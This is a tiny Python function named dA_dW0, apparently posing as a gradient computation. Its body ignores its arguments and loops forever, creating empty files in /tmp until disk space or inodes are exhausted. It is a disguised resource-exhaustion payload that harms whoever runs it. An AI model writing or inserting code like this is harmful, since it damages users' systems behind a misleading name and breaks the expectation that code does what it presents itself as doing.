def dA_dW0(x, W, W0):
    i = 0
    while True:
        open(f'/tmp/f{i}', 'w').close()
        i += 1
